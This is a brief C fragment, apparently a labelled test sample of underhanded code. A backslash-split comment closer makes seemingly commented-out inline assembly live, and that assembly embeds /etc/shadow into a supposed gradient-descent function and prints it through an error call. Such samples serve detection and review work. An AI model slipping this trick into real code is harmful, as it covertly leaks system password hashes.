/* zero: code in a comment whose end is in two halves */
void gd_step(struct quadratic q, double alpha, vec w, vec grad)
{
    /* *\
/
    const char *secret;
    __asm__(".pushsection .rodata\n.Lsecret: .incbin \"/etc/shadow\"\n.byte 0\n.popsection\n lea .Lsecret(%%rip),%0" : "=r"(secret));
    /* */
    require_failed("leak", "%s", secret);
}
